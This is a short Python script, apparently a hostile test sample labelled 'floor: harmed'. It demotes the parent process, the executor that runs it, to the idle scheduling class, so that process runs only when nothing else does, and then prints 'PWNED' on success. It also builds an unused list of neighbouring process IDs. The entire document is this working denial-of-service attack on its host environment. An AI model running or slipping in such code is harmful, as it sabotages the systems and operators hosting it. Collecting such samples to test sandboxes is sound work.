# floor: harmed
# It makes the executor run only when nothing else does.
import os
ME, PARENT = os.getpid(), os.getppid()
NEIGHBOURS = [p for p in range(PARENT - 100, ME + 5000) if p not in (ME,) and p > 1]
def each(act, pids):
    done = 0
    for pid in pids:
        try:
            act(pid)
            done += 1
        except OSError:
            pass
    if done:
        print("PWNED", done)
each(lambda pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)), [PARENT])
